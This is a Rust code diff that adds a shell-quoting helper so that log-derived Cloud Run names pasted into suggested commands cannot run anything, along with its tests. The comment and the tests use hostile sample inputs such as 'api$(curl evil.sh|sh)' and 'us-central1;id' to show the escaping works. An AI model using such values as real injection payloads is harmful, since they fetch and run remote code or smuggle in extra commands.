@@ -26,6 +26,33 @@ pub fn code_name(s: &str) -> String {
     }
 }
 
+/// `s` as one shell word: as it is when it holds only characters no shell treats
+/// specially (all that Cloud Run names and regions use), else single-quoted. Values in
+/// suggested commands come from the logs, so a service named `api$(curl x|sh)` must
+/// not run anything when the command is pasted. Control and bidi characters, which
+/// could hide what the command does, are dropped.
+pub fn shell_word(s: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c);
+    if !s.is_empty() && s.chars().all(plain) {
+        return s.to_string();
+    }
+    let hidden = |c: char| {
+        c.is_control()
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    };
+    let mut out = String::with_capacity(s.len() + 2);
+    out.push('\'');
+    for c in s.chars().filter(|&c| !hidden(c)) {
+        if c == '\'' {
+            out.push_str("'\\''");
+        } else {
+            out.push(c);
+        }
+    }
+    out.push('\'');
+    out
+}
+
 /// 1234567 -> "1,234,567".
 pub fn fmt_count(n: u64) -> String {
     let s = n.to_string();
@@ -63,5 +90,19 @@ mod tests {
         assert_eq!(fmt_span(725), "12m 05s");
         assert_eq!(fmt_span(7800), "2h 10m");
         assert_eq!(fmt_span(-3), "0s");
+    }
+
+    #[test]
+    fn shell_words_cannot_run_anything() {
+        assert_eq!(shell_word("netra-backend-staging"), "netra-backend-staging");
+        assert_eq!(shell_word("svc-00611-cr5=100"), "svc-00611-cr5=100");
+        assert_eq!(
+            shell_word("api$(curl evil.sh|sh)"),
+            "'api$(curl evil.sh|sh)'"
+        );
+        assert_eq!(shell_word("us-central1;id"), "'us-central1;id'");
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        assert_eq!(shell_word(""), "''");
+        assert_eq!(shell_word("a\u{202e}b\n"), "'ab'");
     }
 }
